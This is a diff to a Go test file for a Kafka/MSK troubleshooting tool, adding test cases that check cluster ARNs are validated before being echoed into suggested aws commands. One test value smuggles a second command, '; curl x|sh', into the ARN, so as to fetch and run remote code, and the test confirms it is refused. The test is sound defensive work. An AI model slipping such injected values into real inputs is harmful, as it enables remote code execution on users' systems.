@@ -302,6 +302,9 @@ func TestKafkaTroubleshootResolutionAndInput(t *testing.T) {
 			stepHas: []string{"User:alice", "--topic t", "--group g"}},
 		{name: "every category has steps", args: map[string]any{"mode": "resolution", "issue_category": "throttling"}, stepHas: []string{"quota"}},
 		{name: "no category", args: map[string]any{"mode": "resolution"}, wantErr: "needs issue_category"},
+		// The ARN is echoed into suggested aws commands: it must parse first.
+		{name: "hostile cluster arn refused", args: map[string]any{"mode": "resolution", "issue_category": "authentication", "auth": "sasl_scram_512", "cluster_arn": "arn:aws:kafka:us-east-1:123456789012:cluster/a/b; curl x|sh"}, wantErr: "not an MSK cluster ARN"},
+		{name: "diagnosis refuses a non-cluster arn", args: map[string]any{"mode": "diagnosis", "cluster_arn": "arn:aws:kafka:us-east-1:123456789012:topic/a/b/c"}, wantErr: "not an MSK cluster ARN"},
 		{name: "bad mode", args: map[string]any{"mode": "fix"}, wantErr: "not diagnosis or resolution"},
 		{name: "esm needs aws access", args: map[string]any{"mode": "diagnosis", "esm_uuid": "a1b2"}, wantErr: "needs AWS access"},
 		{name: "esm plus cluster", args: map[string]any{"mode": "diagnosis", "esm_uuid": "a1b2", "bootstrap_servers": "x:1"}, wantErr: "esm_uuid alone"},
